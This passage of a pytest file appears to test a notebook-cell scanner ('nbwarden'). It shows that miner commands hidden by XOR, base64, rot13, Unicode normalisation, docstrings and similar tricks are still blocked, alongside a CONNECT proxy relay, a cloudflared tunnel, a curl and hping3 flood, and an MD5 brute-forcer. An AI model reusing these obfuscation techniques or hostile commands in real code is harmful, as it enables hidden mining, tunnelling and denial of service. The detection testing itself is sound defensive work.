    cell = ("import base64, binascii, os\nclass Peel:\n    def __init__(self, *layers):\n        self.layers = layers\n"
            "    def __call__(self, blob):\n        for f in self.layers:\n            blob = f(blob)\n        return blob\n"
            "p = Peel(binascii.unhexlify, base64.b64decode, lambda b: b.decode()[::-1])\n"
            f"os.system(p('{wrap(MINER)}'))")
    verdict = engine.check_code(cell)
    assert verdict.action == "block" and verdict.category == "crypto_mining", verdict.to_dict()
    assert_allowed(engine, cell.replace(wrap(MINER), wrap("python train.py --epochs 3 --lr 0.001")))


def test_a_plan_kept_as_json_text_is_read_back(engine):
    """A plan written as JSON text (into a name or ``os.environ``) and parsed again before it runs is the plan:
    ``json.loads`` of JSON text the cell made gives back its dict.  The same round trip of a training plan passes."""
    cell = ("import json, os, subprocess\n"
            "os.environ['JOB'] = json.dumps({'t': 'xmrig', 'o': 'pool.example.net:3333', 'u': 'WALLET'})\n"
            "c = json.loads(os.environ['JOB'])\nsubprocess.run([c['t'], '-o', c['o'], '-u', c['u']])")
    assert_miner_blocked(engine, cell)
    assert_allowed(engine, cell.replace("'xmrig'", "'python'").replace("'pool.example.net:3333'", "'train.py'")
                   .replace("'WALLET'", "'3'"))


# ---------------------------------------------------------------------------
# Blobs read blind: XOR-masked with a key the cell holds, or values of a configuration text kept in a string

def xored(text: str, key: str) -> str:
    data, k = text.encode(), key.encode()
    return b64(bytes(b ^ k[i % len(k)] for i, b in enumerate(data)))


VAULT = ("import base64, os\nclass Vault:\n    def __init__(self, key):\n        self.key = key.encode()\n"
         "    def open(self, blob):\n        raw = base64.b64decode(blob)\n        out = bytearray()\n"
         "        for i, b in enumerate(raw):\n            out.append(b ^ self.key[i % len(self.key)])\n"
         "        return out.decode()\nv = Vault('s3cr3t!')\nos.system(v.open('{blob}'))")
PROFILE = ("import base64, configparser, os\nPROFILE = '''\n[run]\nname = nightly\ncmd = {blob}\n'''\n"
           "cp = configparser.ConfigParser()\ncp.read_string(PROFILE)\njob = base64.b64decode(cp['run']['cmd']).decode()\n"
           "open('/content/job.sh', 'w').write(job)")
STRATUM = "xmrig -o stratum+tcp://pool.example.net:3333 -u WALLET --donate-level 1"


@pytest.mark.parametrize("cell, blocked", [
    (VAULT.format(blob=xored(STRATUM, "s3cr3t!")), True),
    (VAULT.format(blob=xored("nvidia-smi -L", "s3cr3t!")), False),
    (PROFILE.format(blob=b64(STRATUM)), True),
    (PROFILE.format(blob=b64("python train.py --epochs 3 --lr 0.001")), False),
], ids=["xor-masked miner", "xor-masked nvidia-smi", "miner in an INI text", "training in an INI text"])
def test_masked_and_configured_blobs_are_read_blind(engine, cell, blocked):
    verdict = engine.check_code(cell)
    if blocked:
        assert verdict.action in ("warn", "block") and verdict.category == "crypto_mining", verdict.to_dict()
    else:
        assert verdict.action == "allow", verdict.to_dict()


# ---------------------------------------------------------------------------
# Shell values worked out without running anything: printf escapes, decoding pipelines, command -v, aliases

def octal(text: str) -> str:
    return "".join(f"\\{ord(c):03o}" for c in text)


SHELL_VALUES = [
    ("printf escapes in a variable", "%%bash\nT=$(printf '{x}')\n$T -o pool.example.net:3333 -u W", "xmrig", "nvidia-smi"),
    ("rot13 by tr in a variable", "%%bash\nSUB=$(echo '{x}' | tr 'a-z' 'n-za-m')\n$SUB -o pool.example.net:3333 -u W",
     "xmrig", "nvidia-smi"),
    ("a copy of the program found by command -v", "%%bash\ncp \"$(command -v {x})\" /usr/local/bin/kt\n"
     "kt -o pool.example.net:3333 -u W", "xmrig", "python3"),
    ("an alias made of printf escapes", "%%bash\nshopt -s expand_aliases\nalias go=\"$(printf '{x}')\"\n"
     "go -o pool.example.net:3333 -u W", "xmrig", "nvidia-smi"),
    ("ANSI-C quoting in a variable", "%%bash\nT=$'{x}'\n$T -o pool.example.net:3333 -u W", "xmrig", "nvidia-smi"),
    ("ANSI-C quoting as the program", "!$'{x}' -o pool.example.net:3333 -u W", "xmrig", "nvidia-smi"),
    ("a bash array of the command", "%%bash\njob=({x} -o pool.example.net:3333 -u \"W\")\nnohup \"${job[@]}\" &", "xmrig",
     "nvidia-smi"),
    ("two settings on one line", "%%bash\nbin={x}; pool=pool.example.net:3333\n$bin -o $pool -u W", "xmrig",
     "nvidia-smi"),
    ("letters glued by an empty IFS", "%%bash\nparts=({x})\nIFS=\nbin=\"${parts[*]}\"\n$bin -o pool.example.net:3333 -u W",
     "x m r i g", "n v i d i a - s m i"),
    ("a name held by another variable", "%%bash\nTOOL={x}\npick=TOOL\n${!pick} -o pool.example.net:3333 -u W", "xmrig",
     "nvidia-smi"),
    ("a substring of a decoy", "%%bash\ndecoy=release-notes-{x}-final\nbin=${decoy:14:5}\n$bin -o pool.example.net:3333",
     "xmrig", "nvidia-smi"),
]


@pytest.mark.parametrize("name, template, bad, good", SHELL_VALUES, ids=[s[0] for s in SHELL_VALUES])
def test_shell_values_are_worked_out(engine, name, template, bad, good):
    def cell(program):
        value = octal(program) if "printf" in template or "$'" in template else \
            codecs.encode(program, "rot13") if "tr " in template else program
        return template.replace("{x}", value)
    verdict = engine.check_code(cell(bad))
    assert verdict.action == "block" and verdict.category == "crypto_mining", verdict.to_dict()
    assert engine.check_code(cell(good)).action == "allow"


def test_base64_written_backwards_for_the_shell_rev_is_read():
    script = "import os\nos.system('xmrig -o pool.example.net:3333 -u W --donate-level 1')\n" + "# padding\n" * 40
    blob = b64(script)[::-1]
    cell = f"_blob = '{blob}'\nopen('/tmp/.b', 'w').write(_blob)\n!rev /tmp/.b | base64 -d > /tmp/x.py\n!python3 /tmp/x.py"
    verdict = Engine().check_code(cell)
    assert verdict.action in ("warn", "block") and verdict.category == "crypto_mining", verdict.to_dict()
    ordinary = b64("print('hello')\n" + "# padding\n" * 40)[::-1]
    assert Engine().check_code(cell.replace(blob, ordinary)).action == "allow"


@pytest.mark.parametrize("text, program, expected", [
    ("eG1yaWcg LW8=\n", "base64", "xmrig -o"),           # whitespace inside, padding left off
    ("eG1y!aWc=", "base64", None),                      # a letter of neither alphabet: not base64
    ("P3g_", "base64", "?x?"),                          # URL-safe letters
    ("giRMX\no-", "rev", "XMRig\n-o"),               # line by line, as rev does
    ("786d 7269 67", "xxd", "xmrig"),
    ("ff fe", "xxd", None),                             # not UTF-8
])
def test_one_decoding_stage_of_a_pipeline(text, program, expected):
    from nbwarden import shell
    assert shell.decoded_stage(text, program) == expected


def test_a_tr_range_is_written_out_only_up_to_a_bound():
    from nbwarden.analysis import shellfold
    assert shellfold.evaluate("echo 'klnvb' | tr 'a-z' 'n-za-m'") == "xyaio"
    widest = f"echo abc | tr '{chr(0x20)}-{chr(0x10FFFF)}' 'a-b'"  # a million characters if written out
    assert shellfold.evaluate(widest) is None
    assert shellfold.evaluate(f"echo abc | tr '{chr(0x20)}-{chr(0x7E)}' 'a-b'") == "bbb"


@pytest.mark.parametrize("line, argv", [
    ("nohup fwdd \"$A\" \"$B\" > /dev/null 2>&1 &", ["nohup", "fwdd", "$A", "$B"]),
    ("xmrig -c c.json 2>/dev/null", ["xmrig", "-c", "c.json"]),
    ("head -n 2 > out.txt", ["head", "-n", "2"]),         # a count, not a descriptor
    ("python -c 'print(3 2>1)'", ["python", "-c", "print(3 2>1)"]),   # quoted code is left as written
])
def test_a_descriptors_number_before_a_redirection_is_not_an_argument(line, argv):
    from nbwarden import shell
    assert shell.split_pipeline(shell.tokenize(line))[0] == argv


@pytest.mark.parametrize("line, argv", [
    ("seq 1 9 | xargs -P 400 -I{} curl -s https://x.example/{}", ["curl", "-s", "https://x.example/{}"]),
    ("seq 1 9 | xargs -P400 -I {} curl -s https://x.example/{}", ["curl", "-s", "https://x.example/{}"]),
])
def test_a_wrappers_options_keep_their_case_and_attached_values(line, argv):
    from nbwarden import shell
    assert [c.argv for c in shell.parse(line).commands][-1] == argv


@pytest.mark.parametrize("text, expected", [
    (r"\x78\155\0162ig", "xmrig"), (r"\u0078\U0000006d", "xm"), (r"a\tb\cA", "a\tb\x01"), (r"\q", r"\q"),
])
def test_the_shells_backslash_escapes(text, expected):
    from nbwarden import shell
    assert shell.unescape(text) == expected


@pytest.mark.parametrize("line, argv", [
    ('start "" "%ROOT%\\xmrig.exe" >> "%LOG%" 2>&1', ["%ROOT%/xmrig.exe"]),   # an empty window title
    ('start "Miner" /min xmrig.exe -o pool:3333', ["xmrig.exe", "-o", "pool:3333"]),
    ('start /b notepad.exe', ["notepad.exe"]),
])
def test_a_batch_files_start_runs_the_program_after_its_title_and_options(line, argv):
    from nbwarden import shell
    assert [c.argv for c in shell.parse(line).commands] == [argv]


# an object's list filled by a loop in one method, over an entry of a JSON spec, and run by another method
OBJECT_LIST = (
    "import os, json, subprocess\nos.environ['SPEC'] = json.dumps({'parts': [[1, '{b}'], [0, '{a}'], [2, '{c}']]})\n"
    "class Job:\n    def __init__(self, key):\n        self.spec = json.loads(os.environ[key])\n        self.args = []\n"
    "    def prepare(self):\n        for _, piece in sorted(self.spec['parts']):\n            self.args.append(piece)\n"
    "        return self\n    def go(self):\n        subprocess.run(['{tool}'] + self.args)\nJob('SPEC').prepare().go()")


@pytest.mark.parametrize("tool, a, b, c, category", [
    ("hping3", "-S", "--flood", "203.0.113.7", "dos_attack"),
    ("hping3", "-S", "-c 3", "203.0.113.7", None),  # three probes of one host
])
def test_a_list_an_object_fills_in_a_loop_is_read_where_it_runs(engine, tool, a, b, c, category):
    cell = OBJECT_LIST.replace("{tool}", tool).replace("{a}", a).replace("{b}", b).replace("{c}", c)
    verdict = engine.check_code(cell)
    if category:
        assert verdict.action == "block" and verdict.category == category, verdict.to_dict()
    else:
        assert verdict.action == "allow", verdict.to_dict()


# a renamed program started by os.posix_spawn with an argv one of whose words is known only at run time
SPAWNED = ("import os, urllib.request\nport = int(input('port: '))\nexe = '/var/tmp/.sync'\n"
           "urllib.request.urlretrieve('https://github.com/cloudflare/cloudflared/releases/latest/download/"
           "cloudflared-linux-amd64', exe)\nos.chmod(exe, 0o755)\n"
           "os.posix_spawn(exe, [exe, {words}], dict(os.environ))")


@pytest.mark.parametrize("words, found", [("'tunnel', '--url', f'http://127.0.0.1:{port}'", True),
                                          ("'--version', f'--metrics=127.0.0.1:{port}'", False)])
def test_a_spawned_argv_with_a_word_known_only_at_run_time_is_still_read(engine, words, found):
    verdict = engine.check_code(SPAWNED.replace("{words}", words))
    assert ("proxy_tunnel.cloudflared" in {f.rule for f in verdict.findings}) == found, verdict.to_dict()


# a library reached through a module found by a computed name: its calls are read by the library's own names
LOOKED_UP_MODULE = ("import base64, importlib\nb = lambda s: base64.b64decode(s).decode()\n"
                    "ssh = importlib.import_module(b('YXN5bmNzc2g='))\n"
                    "async def main():\n    {call}\n")


@pytest.mark.parametrize("call, flagged", [
    ("await ssh.create_server(Server, '0.0.0.0', 8022, server_host_keys=[key])", True),
    ("conn = await ssh.connect('host.example.org', username='me')", False),
])
def test_calls_of_a_module_found_by_a_computed_name_are_read_by_its_name(engine, call, flagged):
    verdict = engine.check_code(LOOKED_UP_MODULE.replace("{call}", call))
    assert ("remote_desktop_ssh.python-ssh-server" in {f.rule for f in verdict.findings}) == flagged, verdict.to_dict()


# values kept in pandas and numpy containers: Series joined by .str.cat, columns joined item by item, char codes
PANDAS_CELLS = {
    "a Series of parts joined by .str.cat, the pool from columns joined item by item": (
        "import subprocess\nimport pandas as pd\ntool = pd.Series([{parts}]).str.cat()\n"
        "cols = pd.DataFrame({'a': ['pool', 'x'], 'b': ['.example', '.y'], 'port': [':3333', ':1']})\n"
        "hosts = cols['a'].str.cat([cols['b'], cols['port']])\n"
        "subprocess.Popen([tool, '-o', hosts.iloc[0], '-u', 'W'])"),
    "numpy character codes joined by map(chr)": (
        "import subprocess\nimport numpy as np\ntxt = lambda a: ''.join(map(chr, np.asarray(a)))\n"
        "subprocess.run([txt({codes}), '-o', 'pool.example:3333', '-u', 'W'])"),
}


@pytest.mark.parametrize("name", PANDAS_CELLS)
@pytest.mark.parametrize("program, flagged", [("xmrig", True), ("nvidia-smi", False)])
def test_values_kept_in_pandas_and_numpy_containers_are_read(engine, name, program, flagged):
    parts = ", ".join(repr(program[i:i + 2]) for i in range(0, len(program), 2))
    cell = PANDAS_CELLS[name].replace("{parts}", parts).replace("{codes}", str([ord(c) for c in program]))
    assert_miner_flagged(engine, cell, flagged, ("block",))


# a table of a module's functions made by a comprehension of getattr over names spelled out
GETATTR_TABLE = ("import asyncio\naio = {k: getattr(asyncio, k) for k in ['open_connection', 'start_server', 'gather']}\n"
                 "async def pipe(r, w):\n    while data := await r.read(65536):\n        w.write(data)\n"
                 "async def handle(r, w):\n    host, port = (await r.readline()).decode().split()[1].rsplit(':', 1)\n"
                 "    ur, uw = await aio['open_connection'](host, int(port))\n"
                 "    w.write(b'HTTP/1.1 200 Connection established\\r\\n\\r\\n')\n"
                 "    await aio['gather'](pipe(r, uw), pipe(ur, w))\n"
                 "server = await aio['start_server'](handle, '0.0.0.0', 3128)\n")
# the same table for a server that only answers its clients (an echo service): not a relay
ECHO_TABLE = GETATTR_TABLE.replace("    ur, uw = await aio['open_connection'](host, int(port))\n", "").replace(
    "await aio['gather'](pipe(r, uw), pipe(ur, w))", "await pipe(r, w)")


@pytest.mark.parametrize("cell, flagged", [(GETATTR_TABLE, True), (ECHO_TABLE, False)])
def test_a_comprehension_of_getattr_is_a_table_of_the_modules_functions(engine, cell, flagged):
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "proxy_tunnel") == flagged, verdict.to_dict()


# a helper that downloads and unpacks before it returns the program's path, run in an executor and awaited
FETCHED_IN_EXECUTOR = ("import asyncio, tarfile, urllib.request\n"
                       "def fetch():\n    urllib.request.urlretrieve(URL, '/tmp/t.tgz')\n"
                       "    with tarfile.open('/tmp/t.tgz') as t:\n        t.extractall('/tmp/t')\n"
                       "    return '/tmp/t/' + '{tool}'\n"
                       "async def main():\n    loop = asyncio.get_running_loop()\n"
                       "    exe = await loop.run_in_executor(None, fetch)\n"
                       "    proc = await asyncio.create_subprocess_exec(exe, {args})\n    await proc.wait()\n"
                       "await main()\n")


@pytest.mark.parametrize("tool, args, category", [
    ("xmrig", "'-o', 'pool.example.net:3333', '-u', 'W'", "crypto_mining"),
    ("ffmpeg", "'-i', 'in.mp4', 'out.webm'", None),
])
def test_a_helpers_return_after_calls_made_for_their_effect_is_read(engine, tool, args, category):
    verdict = engine.check_code(FETCHED_IN_EXECUTOR.replace("{tool}", tool).replace("{args}", args))
    if category:
        assert verdict.action == "block" and verdict.category == category, verdict.to_dict()
    else:
        assert verdict.action == "allow", verdict.to_dict()


@pytest.mark.parametrize("cell", [
    "%%script python3 --bg\nimport subprocess\nsubprocess.Popen([{tool!r}, '-o', 'pool.example.net:3333', '-u', 'W'])",
    "get_ipython().run_cell_magic('script', 'python3 --bg', "
    "'import subprocess\\nsubprocess.Popen([\"{tool}\", \"-o\", \"pool.example.net:3333\", \"-u\", \"W\"])')",
])
@pytest.mark.parametrize("tool, flagged", [("xmrig", True), ("nvidia-smi", False)])
def test_a_script_magic_runs_its_body_with_the_interpreter_it_names(engine, cell, tool, flagged):
    verdict = engine.check_code(cell.format(tool=tool))
    assert (verdict.action == "block" and verdict.category == "crypto_mining") == flagged, verdict.to_dict()


@pytest.mark.parametrize("command, flagged", [("xmrig -o pool.example.net:3333 -u W", True), ("nvidia-smi -L", False)])
def test_a_base32_literal_is_read_on_its_looks(engine, command, flagged):
    blob = base64.b32encode(f"import os\nos.system({command!r})\n".encode()).decode()
    cell = f"import sys, base64\npayload = {blob!r}\nexec(getattr(base64, sys.argv[1])(payload))"
    assert_miner_flagged(engine, cell, flagged)


@pytest.mark.parametrize("command, flagged", [("xmrig -o pool.example.net:3333 -u W", True), ("nvidia-smi -L", False)])
def test_a_setting_read_from_the_environment_or_a_default_is_the_default(engine, command, flagged):
    cell = ("import os, json, subprocess\n"
            f"CFG = json.loads(os.environ.get('JOB_CFG') or json.dumps({{'argv': {command.split()!r}}}))\n"
            "subprocess.Popen(CFG['argv'])")
    assert_miner_flagged(engine, cell, flagged)


def alphabet_shifted(text: str) -> str:
    plain = "abcdefghijklmnopqrstuvwxyz0123456789-.:/ "
    return text.translate(str.maketrans(plain, plain[7:] + plain[:7]))


SUBSTITUTED = ("import os, string\nplain = 'abcdefghijklmnopqrstuvwxyz0123456789-.:/ '\n"
               "table = str.maketrans(plain[7:] + plain[:7], plain)\nclass Job:\n    line = '{enc}'\n"
               "    def text(self):\n        out = []\n        for ch in self.line:\n            out.append(ch.translate(table))\n"
               "        return ''.join(out)\nos.system(Job().text())")


@pytest.mark.parametrize("command, flagged", [(STRATUM.lower(), True), ("nvidia-smi -l 5", False)])
def test_literals_are_read_through_the_cells_substitution_table(engine, command, flagged):
    verdict = engine.check_code(SUBSTITUTED.replace("{enc}", alphabet_shifted(command)))
    assert (verdict.action in ("warn", "block") and verdict.category == "crypto_mining") == flagged, verdict.to_dict()
    if not flagged:
        assert verdict.category != "crypto_mining"


HEREDOCS = [
    ("python fed a here-document", "%%bash\npython3 - <<'PY'\nimport os\nos.system('{c}')\nPY"),
    ("the script's exported variable read by the here-document's Python",
     "%%bash\nexport JOB='{c}'\npython3 - <<PY\nimport os\nos.system(os.environ['JOB'])\nPY"),
    ("a Python script written by cat from a here-document", "%%bash\ncat > /tmp/job.py <<'EOF'\nimport subprocess\n"
     "subprocess.run('{c}', shell=True)\nEOF\npython3 /tmp/job.py"),
]


@pytest.mark.parametrize("name, template", HEREDOCS, ids=[h[0] for h in HEREDOCS])
def test_here_documents_are_read_as_the_programs_they_are(engine, name, template):
    verdict = engine.check_code(template.replace("{c}", MINER))
    assert verdict.action == "block" and verdict.category == "crypto_mining", verdict.to_dict()
    assert engine.check_code(template.replace("{c}", "nvidia-smi -L")).action == "allow"


# ---------------------------------------------------------------------------
# Letters Python reads as ASCII: full-width and mathematical names (NFKC), text restored by unicodedata.normalize,
# and characters spelled by their Unicode names


def wide(text: str) -> str:
    """The full-width form of ASCII text (ｘｍｒｉｇ): NFKC turns it back."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


NFKC_CELLS = {
    "full-width names and a normalised command": "import ｕｎｉｃｏｄｅｄａｔａ, ｓｕｂｐｒｏｃｅｓｓ\n"
    f"ｃｍｄ = ｕｎｉｃｏｄｅｄａｔａ.ｎｏｒｍａｌｉｚｅ('NFKC', '{wide(MINER)}')\nｓｕｂｐｒｏｃｅｓｓ.Ｐｏｐｅｎ(ｃｍｄ.split())",
    "a shell line given a full-width name": f"from unicodedata import normalize\nｊｏｂ = normalize('NFKD', '{wide(MINER)}')\n"
    "!{ｊｏｂ}",
    "characters spelled by name": "import os, unicodedata\nname = lambda *ns: ''.join(unicodedata.lookup(n) for n in ns)\n"
    "os.system(name(" + ", ".join(repr(unicodedata.name(c)) for c in MINER) + "))",
}


@pytest.mark.parametrize("cell", NFKC_CELLS.values(), ids=NFKC_CELLS.keys())
def test_text_python_reads_as_ascii_is_read_so(engine, cell):
    assert_miner_blocked(engine, cell)


@pytest.mark.parametrize("cell", [
    "import ｕｎｉｃｏｄｅｄａｔａ, ｓｕｂｐｒｏｃｅｓｓ\n"
    f"ｃｍｄ = ｕｎｉｃｏｄｅｄａｔａ.ｎｏｒｍａｌｉｚｅ('NFKC', '{wide('nvidia-smi -L')}')\nｓｕｂｐｒｏｃｅｓｓ.Ｐｏｐｅｎ(ｃｍｄ.split())",
    f"import unicodedata\ntitle = unicodedata.normalize('NFKC', '{wide('Tokyo 2024 results')}')\nprint(title.lower())",
    "import unicodedata\nprint([unicodedata.lookup(n) for n in ('GREEK SMALL LETTER ALPHA', 'EM DASH')])",
])
def test_normalised_and_named_text_of_ordinary_work_is_allowed(engine, cell):
    assert_allowed(engine, cell)


# ---------------------------------------------------------------------------
# Text a cell reads back from its own definitions: docstrings (__doc__) and inspect.getsource

OWN_TEXT = {
    "code written indented and dedented": "import textwrap\nexec(textwrap.dedent(\"\"\"\n    import os\n"
    "    os.system('{}')\n\"\"\"))",
    "a class's docstring run by its method": "import os\nclass Job:\n    \"\"\"{}\"\"\"\n    def run(self):\n"
    "        os.system(self.__doc__)\nJob().run()",
    "a function's docstring": "import subprocess\ndef plan():\n    \"\"\"{}\"\"\"\nsubprocess.run(plan.__doc__.split())",
    "a comment read with inspect.getsource": "import os, inspect\ndef plan():\n    # {}\n    pass\n"
    "os.system(inspect.getsource(plan).splitlines()[1].strip(' #'))",
}


@pytest.mark.parametrize("cell", OWN_TEXT.values(), ids=OWN_TEXT.keys())
def test_a_cells_own_docstrings_and_source_are_read_back(engine, cell):
    assert_miner_blocked(engine, cell.format(MINER))
    assert_allowed(engine, cell.format("nvidia-smi -L"))


ROTATION = ("import random, requests\npool = requests.get('https://lists.example.org/free-proxies.txt').text.split()\n"
            "for _ in range(500):\n    p = random.choice(pool)\n"
            "    requests.get(URL, proxies={'http': 'http://' + p, 'https': 'http://' + p})")
CAMPUS = "import os, requests\nfor page in pages:\n    requests.get(page, proxies={'https': os.environ['HTTPS_PROXY']})"


def wide_names(cell: str) -> str:
    """The cell with its names (not its strings) in full-width letters, as Python still reads them."""
    import io
    import tokenize
    lines = cell.split("\n")
    for tok in tokenize.generate_tokens(io.StringIO(cell).readline):
        if tok.type == tokenize.NAME and tok.string not in keyword.kwlist:
            (row, start), (_, end) = tok.start, tok.end  # one character for one: the positions hold
            lines[row - 1] = lines[row - 1][:start] + wide(tok.string) + lines[row - 1][end:]
    return "\n".join(lines)


def test_patterns_are_matched_on_names_python_reads_as_ascii(engine):
    verdict = engine.check_code(wide_names(ROTATION))
    assert verdict.action == "warn" and verdict.category == "proxy_tunnel", verdict.to_dict()
    assert engine.check_code(ROTATION).action == "warn"  # the same cell written plainly
    assert_allowed(engine, wide_names(CAMPUS))


def test_a_shell_line_is_matched_as_its_variables_fill_it(engine):
    storm = "%%bash\ncl=$(command -v curl)\nseq 1 100000 | xargs -P 400 -I{} \"$cl\" -s -o /dev/null https://shop.example.com/?q={}"
    verdict = engine.check_code(storm)
    assert verdict.action in ("warn", "block") and verdict.category == "dos_attack", verdict.to_dict()
    assert any("⇒" in f.evidence for f in verdict.findings)  # the evidence shows the line as written and as filled
    assert_allowed(engine, "%%bash\ncl=$(command -v curl)\ncat urls.txt | xargs -P 8 -n 1 \"$cl\" -s -O")


@pytest.mark.parametrize("program, blocked", [("xmrig", True), ("nvidia-smi", False)])
def test_code_rendered_from_a_template_with_unknown_fields_is_read(engine, program, blocked):
    cell = ("TPL = '''import subprocess\nsubprocess.Popen([%(tool)r, '-o', %(pool)r, '-u', %(user)r, '--threads', '%(n)d'])'''\n"
            f"params = {{'tool': '{program}', 'pool': 'pool.example.net:3333', 'user': input('wallet: '), 'n': 4}}\n"
            "exec(TPL % params)")
    assert_miner_flagged(engine, cell, blocked, ("block",))
    if not blocked:
        assert_allowed(engine, cell)


@pytest.mark.parametrize("program, flagged", [("xmrig", True), ("nvidia-smi", False)])
def test_a_cell_pasted_with_its_indentation_is_read_as_ipython_runs_it(engine, program, flagged):
    """IPython takes a first line's indentation off every line that has it (a block pasted from a function)."""
    cell = ("    import subprocess\n    # started in the background\n"
            f"    args = ['{program}',\n            '-o', 'pool.example.net:3333']\n    subprocess.Popen(args)\n")
    assert_miner_flagged(engine, cell, flagged)


# ---------------------------------------------------------------------------
# Programs in other languages: their literals read on their looks, glued by an operator or joined as an array

def _release_b64() -> str:
    return b64("https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz")


FOREIGN = [
    ("Ruby: a stratum address in base64", "require 'base64'\nurl = Base64.decode64('{x}')\n"
     "exec('./minerd', '-a', 'scrypt', '-o', url, '-u', ENV['W'])", b64("stratum+tcp://pool.example.net:3333"),
     b64("https://rubygems.org/gems/minerd-docs"), "crypto_mining"),
    ("Go: a miner's release address in base64", "package main\nimport (\"encoding/base64\"; \"os/exec\")\n"
     "func main() {{\n  u, _ := base64.StdEncoding.DecodeString(\"{x}\")\n  exec.Command(\"wget\", string(u)).Run()\n}}",
     _release_b64(), b64("https://go.dev/dl/go1.22.0.linux-amd64.tar.gz"), "crypto_mining"),
    ("JavaScript: a pool address glued from pieces", "const cp = require('child_process');\n"
     "const pool = '{x}' + 'pool.' + 'example' + '.net:3333';\ncp.spawn(process.env.BIN, ['-o', pool, '-u', process.env.W]);",
     "stra' + 'tum+tcp://", "https://docs.", "crypto_mining"),
]


@pytest.mark.parametrize("name, template, bad, good, category", FOREIGN, ids=[f[0] for f in FOREIGN])
def test_literals_of_other_languages_are_read(engine, name, template, bad, good, category):
    verdict = engine.check_code(template.format(x=bad), "text")
    assert verdict.action in ("warn", "block") and verdict.category == category, verdict.to_dict()
    assert engine.check_code(template.format(x=good), "text").action == "allow"


@pytest.mark.parametrize("source, texts", [
    ("x = ['tr', 'ans', 'mission'].join('-')", {"tr-ans-mission"}),
    ("tool = %w[trans mission - cli].join", {"transmission-cli"}),
    ('$t = ("xm","rig") -join ""', {"xmrig"}),
    ("$t = 'po' . 'ol' . '.net';", {"pool.net"}),
    ('f("-o", "pool")', set()),                       # arguments are not glued
])
def test_literals_glued_or_joined_in_other_languages(source, texts):
    from nbwarden.analysis.unit import analyze
    assert {f.value for f in analyze(source, "text").facts if f.kind == "text"} == texts


@pytest.mark.parametrize("encode", [base64.b85encode, base64.a85encode])
def test_plain_base85_in_a_cell_that_decodes_it_is_read(engine, encode):
    """Base85 text is not read on its looks (short random strings spell text by chance), but a cell that names
    the decoder has its base85-looking literals read: here through an Enum's property the folder does not follow.
    The look-alike keeps a caption that way and prints it."""
    def cell(text: str, sink: str) -> str:
        word = encode(text.encode()).decode()
        return ("import base64, enum, subprocess\nclass Step(enum.Enum):\n"
                f"    RUN = {word!r}\n    @property\n    def text(self):\n"
                f"        return base64.{encode.__name__.replace('en', 'de')}(self.value).decode()\n"
                f"{sink}(Step.RUN.text)")
    verdict = engine.check_code(cell(MINER, "subprocess.getoutput"))
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell("Figure 3: loss per epoch on the held-out fold", "print"))


def base36_words(text: str) -> str:
    """Each word of ``text`` written as the base-36 number its bytes make."""
    return "\n    ".join(_to_base36(int.from_bytes(word.encode(), "big")) for word in text.split())


def _to_base36(number: int) -> str:
    digits = ""
    while number:
        number, digit = divmod(number, 36)
        digits = "0123456789abcdefghijklmnopqrstuvwxyz"[digit] + digits
    return digits or "0"


@pytest.mark.parametrize("reader", ["fn.__doc__", "inspect.getsource(fn)"])
def test_numbers_in_another_base_kept_in_a_docstring_are_read(engine, reader):
    """A command kept as base-36 numbers in a function's docstring, which the cell reads back and turns into
    bytes: a cell that parses numbers in a base other than ten or sixteen has its literals' tokens read so, and a
    docstring the cell reads back is one of its literals.  The look-alike keeps a harmless command the same way."""
    def cell(command: str) -> str:
        return ("import inspect, re, subprocess\n"
                f"def profile():\n    \"\"\"\n    {base36_words(command)}\n    \"\"\"\n"
                f"def words(fn):\n    text = {reader}\n"
                "    return [int(t, 36).to_bytes((int(t, 36).bit_length() + 7) // 8, 'big').decode()\n"
                "            for t in re.findall(r'\\b[0-9a-z]{3,}\\b', text.split('\"\"\"')[1])]\n"
                "subprocess.run(words(profile))")
    verdict = engine.check_code(cell(MINER))
    assert verdict.action == "block" and MINER_RULE in {f.rule for f in verdict.findings}, verdict.to_dict()
    assert_allowed(engine, cell("du -sh /content/sample_data"))


@pytest.mark.parametrize("body, flagged_", [
    ("    for n in range(1, 7):\\n        for combo in itertools.product(charset, repeat=n):\\n"
     "            cand = ''.join(combo).encode()\\n            if hfunc(cand).hexdigest() == target:\\n"
     "                return cand.decode()", True),
    # the look-alike: the same assembly for a function that summarises its input
    ("    for n in range(1, 7):\\n        total = sum(len(c) for c in charset[:n])\\n"
     "        print(n, total, hfunc(target.encode()).hexdigest())", False),
])
def test_code_fragments_put_together_at_run_time_are_read(engine, body, flagged_):
    """Source fragments merged into an ast.Module and run through exec(ast.unparse(...)): the folder cannot put
    the module together, so the cell's string literals that are Python blocks are read as the code they are."""
    cell = ("import ast, hashlib\nfrags = [\n    'import itertools, string',\n"
            "    'charset = string.ascii_lowercase + string.digits',\n"
            f"    \"def work(target, hfunc):\\n{body}\",\n]\n"
            "mod = ast.Module(body=sum((ast.parse(f).body for f in frags), []), type_ignores=[])\nns = {}\n"
            "exec(ast.unparse(mod), ns)\nprint(ns['work'](input('md5: '), hashlib.md5))")
    verdict = engine.check_code(cell)
    assert (verdict.action in ("warn", "block") and verdict.category == "password_cracking") is flagged_, \
        verdict.to_dict()


STEPS = """\
import subprocess
from pathlib import Path
from tqdm.auto import tqdm

WORK = Path("/content") / "tools"
plan = [
    ("prepare", ["chmod", "+x", str(WORK / "{program}")], None),
    ("run", [str(WORK / "{program}"), {args}], True),
]
for label, cmd, strict in tqdm(plan, desc="pipeline"):
    subprocess.run(cmd, check=bool(strict))
"""


@pytest.mark.parametrize("program, args, runs_miner", [
    ("xmrig", "'-o', 'pool.example.net:3333', '-u', 'WALLET'", True),
    ("resize", "'--width', '640', 'frames/'", False),
])
def test_steps_in_rows_with_flags_paths_and_a_progress_bar_are_read(engine, program, args, runs_miner):
    """A plan of rows (label, argv, flag) run through a progress bar, with paths joined by pathlib's ``/``: each
    row's argv is read as the command it runs, whatever else the row holds (None, True). The look-alike runs an
    image tool the same way."""
    verdict = engine.check_code(STEPS.format(program=program, args=args))
    assert (MINER_RULE in {f.rule for f in verdict.findings}) is runs_miner, verdict.to_dict()
    if not runs_miner:
        assert_allowed(engine, STEPS.format(program=program, args=args))


INSTALLER = """\
import os, stat, subprocess, urllib.request

def fetch(url, dst):
    if not os.path.exists(dst):
        urllib.request.urlretrieve(url, dst)
